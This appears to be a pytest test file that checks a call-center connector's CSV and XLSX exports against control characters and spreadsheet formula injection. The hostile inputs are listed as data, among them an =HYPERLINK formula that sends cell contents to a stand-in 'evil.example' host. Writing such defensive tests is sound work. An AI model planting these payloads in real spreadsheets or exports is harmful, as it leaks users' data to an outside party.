"""Exports that cannot break or attack (issue 16). A control character in one stored text made
/calls/export.xlsx and /reports/export.xlsx answer 500 for everyone who could see the call; texts from the
PBX or the score API starting with =, +, -, @ came out as live formulas in XLSX and unescaped in CSV.

Now every surface refuses control characters with one rule (connector.core.validation.text_problem: a 4xx naming
the field, nothing written; comments keep tab and line breaks), and every export cleans each text cell and
writes a formula-like one as text (connector.console.cells). Each hostile string is planted through each surface
that still takes it, and every export is opened the way a person would open it."""
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from connector.console.exports import COLUMNS
from connector.core.models import Call, Score
from connector.core.users import add_user
from tests.conftest import ADMIN_TOKEN, EXPORT_HEADERS, console_login, csrf_token, csv_rows, summary

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = ["bell\u0007", "7900\u0001", HYPERLINK, "+1+2", "@SUM(1)", "-2+3", "\tx", "\rx"]
FORMULAS = [HYPERLINK, "+1+2", "@SUM(1)", "-2+3"]

# Written out here, not imported, so that the test states the rules on its own.
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")  # refused in one-line text: identifiers, numbers, names
CONTROL_IN_LINES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # refused in comments
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

PASSWORD = "correct horse battery"
AUTH = {"Authorization": f"Bearer {ADMIN_TOKEN}"}


@pytest.fixture
def config_overrides():
    """Exports built in this process: what they hold is what is asserted here, and a child process writes the
    same file byte for byte (tests/test_heavy_reads.py proves it), so these need not pay a child's start-up."""
    return {"HEAVY_READS_IN_CHILDREN": "false"}


@pytest.fixture
def people(db, monkeypatch):
    monkeypatch.setattr("connector.core.users.PASSWORD_METHOD", "scrypt:1024:8:1")
    with db.transaction() as s:
        add_user(s, "ann", "admin", PASSWORD)
        add_user(s, "sam", "supervisor", PASSWORD)


def takes(text: str, max_len: int, *, lines: bool = False) -> bool:
    """Whether a surface stores this text (the rule the intake applies)."""
    return len(text) <= max_len and not (CONTROL_IN_LINES if lines else CONTROL).search(text)


def as_csv(text: str) -> str:
    """What the CSV holds for a text: the OWASP single quote before a formula-like one."""
    return "'" + text if text.startswith(FORMULA_START) else text


def lines(text: str) -> str:
    """Line breaks as any reader normalises them (XML turns a CR into a LF)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def open_exports(client) -> dict:
    """Every export downloaded (each must be 200) and opened: the CSV as rows of fields, each sheet of the
    XLSX files as rows of openpyxl cells (their type and style readable)."""
    out = {}
    response = client.get("/calls/export.csv")
    assert response.status_code == 200, response.status_code
    out["csv"] = csv_rows(response)
    for path, sheets in (("/calls/export.xlsx", {"calls": "Звонки"}),
                         ("/reports/export.xlsx", {"operators": "Операторы", "lines": "Линии"})):
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        book = load_workbook(io.BytesIO(response.data))
        for name, title in sheets.items():
            out[name] = [list(row) for row in book[title].iter_rows()]
    assert_safe(out)
    return out


def assert_safe(exports: dict) -> None:
    """No formula anywhere, no character a spreadsheet file cannot carry, every formula-like text marked as
    text (quotePrefix in XLSX, a leading quote in CSV); numbers stay numbers."""
    for name in ("calls", "operators", "lines"):
        for row in exports[name]:
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not XML_ILLEGAL.search(cell.value), (name, cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (name, cell.coordinate, cell.value)
    for row in exports["csv"]:
        for field in row:
            assert not XML_ILLEGAL.search(field), field
            assert not field.startswith(FORMULA_START) or NUMBER.fullmatch(field), field


def calls_by_id(exports: dict) -> tuple[dict, dict]:
    """{call_id: {column: value}} from the CSV and from the calls sheet (columns by their keys)."""
    assert exports["csv"][0] == list(EXPORT_HEADERS)
    assert [c.value for c in exports["calls"][0]] == list(EXPORT_HEADERS)
    from_csv = {row[0]: dict(zip(COLUMNS, row)) for row in exports["csv"][1:]}
    from_xlsx = {row[0].value: {h: c.value for h, c in zip(COLUMNS, row)} for row in exports["calls"][1:]}
    return from_csv, from_xlsx


def keys(exports: dict, sheet: str) -> list:
    return [row[0].value for row in exports[sheet][1:]]


def post_review_form(client, call_id: str, score: str, comment: str):
    page = client.get(f"/calls/{call_id}")
    return client.post(f"/calls/{call_id}/reviews", data={"score": score, "comment": comment,
                                                          "csrf_token": csrf_token(page)})


def counts(db) -> tuple[int, int]:
    with db.transaction() as s:
        return s.scalar(select(func.count()).select_from(Call)), s.scalar(select(func.count()).select_from(Score))


# --- every hostile string through every surface ---------------------------------------------------------

@pytest.mark.parametrize("hostile", HOSTILE)
def test_each_hostile_string_through_each_surface_exports_safely(client, mango_post, post_score, people, db,
                                                                 hostile):
    assert mango_post("events/summary", summary("reviewed")).status_code == 200

    # The PBX's signed summary: the call's id, the caller's number, the operator's extension, the line.
    line_payload = summary("pbx-line", line=hostile)
    line_payload["to"]["number"] = "74950000000"
    planted = {"entry_id": (summary(hostile), 128), "from.number": (summary("pbx-number", customer=hostile), 32),
               "to.extension": (summary("pbx-extension", extension=hostile), 32),
               "line_number": (line_payload, 32)}
    for field, (payload, max_len) in planted.items():
        before = counts(db)
        response = mango_post("events/summary", payload)
        if takes(hostile, max_len):
            assert response.status_code == 200, (field, response.json)
        else:
            assert response.status_code == 400 and field in response.json["error"], (field, response.json)
            assert counts(db) == before

    # The generic score API.
    api = {"call_id": ({"call_id": hostile, "score": 3}, 128, False),
           "phone": ({"call_id": "api-phone", "score": 3, "phone": hostile}, 32, False),
           "operator": ({"call_id": "api-operator", "score": 3, "operator": hostile}, 32, False),
           "comment": ({"call_id": "api-comment", "score": 3, "comment": hostile}, 2000, True)}
    for field, (payload, max_len, multiline) in api.items():
        before = counts(db)
        response = post_score(payload)
        if takes(hostile, max_len, lines=multiline):
            assert response.status_code == 200, (field, response.json)
        else:
            assert response.status_code == 400 and field in response.json["error"], (field, response.json)
            assert counts(db) == before

    # A review's comment, through the API and through the console's form.
    before = counts(db)
    by_api = client.post("/api/v1/calls/reviewed/reviews", json={"score": 6, "comment": hostile}, headers=AUTH)
    console_login(client, "sam", PASSWORD)
    by_form = post_review_form(client, "reviewed", "7", hostile)
    if takes(hostile, 2000, lines=True):
        assert by_api.status_code == 201 and by_form.status_code == 302
    else:
        assert by_api.status_code == 422 and "comment" in by_api.json["error"]
        assert by_form.status_code == 400
        assert "управляющие символы" in by_form.get_data(as_text=True)
        assert counts(db) == before

    # Every export opens, and shows what was stored as a person expects to read it.
    exports = open_exports(client)
    from_csv, from_xlsx = calls_by_id(exports)
    expected_calls = {"reviewed"} | ({hostile} if takes(hostile, 128) else set()) | \
        {f"pbx-{name}" for name in ("number", "extension", "line") if takes(hostile, 32)} | \
        {f"api-{name}" for name in ("phone", "operator") if takes(hostile, 32)} | \
        ({"api-comment"} if takes(hostile, 2000, lines=True) else set())
    assert set(from_xlsx) == expected_calls
    assert set(from_csv) == {as_csv(call_id) for call_id in expected_calls}
    column_of = {"pbx-number": "customer_phone", "pbx-extension": "operator", "pbx-line": "line_number",
                 "api-phone": "customer_phone", hostile: "call_id"}
    for call_id, column in column_of.items():
        if call_id in expected_calls:
            assert from_xlsx[call_id][column] == hostile, (call_id, column)
            assert from_csv[as_csv(call_id)][column] == as_csv(hostile), (call_id, column)
    reviews = from_xlsx["reviewed"]["reviews"] or ""  # an empty cell reads back as None
    assert lines(from_csv["reviewed"]["reviews"]) == lines(reviews)
    if takes(hostile, 2000, lines=True):
        assert lines(f"admin token: 6 ({hostile})") in lines(reviews)
        assert f"sam: 7 ({hostile.strip()})" in reviews  # the form trims the comment as typed
    else:
        assert reviews == ""
    assert (hostile in keys(exports, "operators")) == takes(hostile, 32)
    assert (hostile in keys(exports, "lines")) == takes(hostile, 32)


# --- one test per defect ------------------------------------------------------------------------------

def test_a_control_character_in_a_review_comment_is_refused_by_the_api_and_the_form(client, mango_post,
                                                                                     people, db):
    """It was accepted (201) and then broke every XLSX export of the call."""
    assert mango_post("events/summary", summary("call-1")).status_code == 200
    before = counts(db)
    response = client.post("/api/v1/calls/call-1/reviews", json={"score": 6, "comment": "bell\u0007"}, headers=AUTH)
    assert response.status_code == 422
    assert response.json == {"error": "comment: must not contain control characters (U+0007)"}
    console_login(client, "sam", PASSWORD)
    refused = post_review_form(client, "call-1", "6", "bell\u0007")
    assert refused.status_code == 400
    assert "Комментарий не может содержать управляющие символы" in refused.get_data(as_text=True)
    client.get("/calls/call-1?lang=en")
    english = post_review_form(client, "call-1", "6", "bell\u0007")
    assert english.status_code == 400
    assert "A comment cannot contain control characters" in english.get_data(as_text=True)
    assert counts(db) == before
    assert client.get("/api/v1/calls/call-1/reviews", headers=AUTH).json["items"] == []
    # Line breaks and tabs stay allowed in a comment, as a person types them.
    kept = post_review_form(client, "call-1", "6", "first line\r\n\tsecond line")
    assert kept.status_code == 302
    assert client.get("/api/v1/calls/call-1/reviews", headers=AUTH).json["items"][0]["comment"] == \
        "first line\r\n\tsecond line"


@pytest.mark.parametrize("field", ["from.number", "to.extension", "line_number", "entry_id"])
def test_a_control_character_in_a_signed_summary_is_400_naming_the_field(mango_post, db, field):
    """A caller number "7900\\u0001" was accepted (200) and then broke every XLSX export of the call."""
    payload = summary("call-1")
    target, _, name = field.rpartition(".")
    (payload[target] if target else payload)[name] = "7900\u0001"
    response = mango_post("events/summary", payload)
    assert response.status_code == 400
    assert response.json == {"error": f"field json: {field}: must not contain control characters (U+0001)"}
    assert counts(db) == (0, 0)


@pytest.mark.parametrize("field", ["call_id", "phone", "operator", "comment"])
def test_a_control_character_in_the_score_api_is_400_naming_the_field(post_score, db, field):
    payload = {"call_id": "call-1", "score": 3, field: "7900\u0001"}
    response = post_score(payload)
    assert response.status_code == 400
    assert response.json == {"error": f"{field}: must not contain control characters (U+0001)"}
    assert counts(db) == (0, 0)


def test_rows_stored_with_control_characters_before_the_rule_still_export(client, mango_post, people, db):
    """Rows written before intake refused control characters (nothing in the console or the API can remove
    them) export with those characters removed, instead of a 500 for everyone who sees the call."""
    assert mango_post("events/summary", summary("call-1")).status_code == 200
    assert client.post("/api/v1/calls/call-1/reviews", json={"score": 6, "comment": "bell"},
                       headers=AUTH).status_code == 201
    with db.transaction() as s:
        s.execute(update(Call).where(Call.entry_id == "call-1").values(
            customer_phone="7900\u0001", operator_extension="10\u00021", line_number="7495\u001f"))
        s.execute(update(Score).where(Score.origin == "review").values(comment="bell\u0007"))
    console_login(client, "ann", PASSWORD)
    exports = open_exports(client)
    from_csv, from_xlsx = calls_by_id(exports)
    for row in (from_csv["call-1"], from_xlsx["call-1"]):
        assert (row["customer_phone"], row["operator"], row["line_number"]) == ("7900", "101", "7495")
        assert row["reviews"] == "admin token: 6 (bell)"
    assert keys(exports, "operators") == ["101", "Итого"] and keys(exports, "lines") == ["7495", "Итого"]


def test_formulas_from_the_pbx_are_text_in_every_export(client, mango_post, people):
    """=HYPERLINK(...) as a call id came out of the XLSX as a live formula, and +, -, @ unescaped in CSV."""
    payload = summary(HYPERLINK, customer="+1+2", extension="@SUM(1)", line="-2+3")
    assert mango_post("events/summary", payload).status_code == 200
    console_login(client, "ann", PASSWORD)
    exports = open_exports(client)
    from_csv, from_xlsx = calls_by_id(exports)
    shown = from_xlsx[HYPERLINK]
    assert (shown["customer_phone"], shown["operator"], shown["line_number"]) == ("+1+2", "@SUM(1)", "-2+3")
    quoted = from_csv["'" + HYPERLINK]
    assert (quoted["customer_phone"], quoted["operator"], quoted["line_number"]) == ("'+1+2", "'@SUM(1)", "'-2+3")
    assert keys(exports, "operators") == ["@SUM(1)", "Итого"] and keys(exports, "lines") == ["-2+3", "Итого"]


def test_formulas_from_the_score_api_are_text_in_every_export(client, post_score, people):
    assert post_score({"call_id": HYPERLINK, "score": 3, "phone": "@SUM(1)"}).status_code == 200
    console_login(client, "ann", PASSWORD)
    exports = open_exports(client)
    from_csv, from_xlsx = calls_by_id(exports)
    assert from_xlsx[HYPERLINK]["customer_phone"] == "@SUM(1)"
    assert from_csv["'" + HYPERLINK]["customer_phone"] == "'@SUM(1)"


def test_a_phone_number_reads_as_written_and_numbers_stay_numbers(client, mango_post, people):
    """+79001234567 is legitimate text starting with "+": XLSX shows it as sent (a text cell with quotePrefix,
    so editing it never makes it a formula); scores and negative figures are numeric cells."""
    from tests.conftest import dtmf

    assert mango_post("events/summary", summary("call-1", customer="+79001234567")).status_code == 200
    assert mango_post("events/dtmf", dtmf("call-1", "3")).status_code == 200  # a detractor: NPS -100
    console_login(client, "ann", PASSWORD)
    exports = open_exports(client)
    row = dict(zip(COLUMNS, exports["calls"][1]))
    assert row["customer_phone"].value == "+79001234567" and row["customer_phone"].data_type == "s"
    assert row["customer_phone"].quotePrefix
    assert row["customer_score"].value == 3 and row["customer_score"].data_type == "n"
    report_header = [c.value for c in exports["operators"][0]]
    totals = dict(zip(report_header, exports["operators"][-1]))
    assert totals["NPS"].value == -100.0 and totals["NPS"].data_type == "n"


# --- the cell rules alone --------------------------------------------------------------------------------

def test_the_cell_rules():
    from connector.console.cells import clean_text, csv_value, is_formula_like

    assert clean_text("bell\u0007") == "bell" and clean_text("a\tb\r\nc") == "a\tb\r\nc"
    assert clean_text("x\ufffe\uffffy") == "xy"
    assert [is_formula_like(t) for t in FORMULAS + ["\tx", "\rx"]] == [True] * 6
    assert not is_formula_like("79001234567") and not is_formula_like(" =1")
    assert csv_value("=1+1") == "'=1+1" and csv_value("\u0007=1") == "'=1" and csv_value("ok") == "ok"
    assert csv_value(-3) == -3 and csv_value(None) is None


def test_the_line_override_form_refuses_a_control_character_as_the_api_does(client, people, db):
    console_login(client, "ann", PASSWORD)
    page = client.get("/settings")
    refused = client.post("/settings/lines", data={"line_number": "7495\u0007", "enabled": "y",
                                                   "csrf_token": csrf_token(page)})
    assert refused.status_code == 400
    assert client.put("/api/v1/settings/lines/7495%07", json={"enabled": True}, headers=AUTH).status_code == 404
    assert client.get("/api/v1/settings/lines", headers=AUTH).json["items"] == []
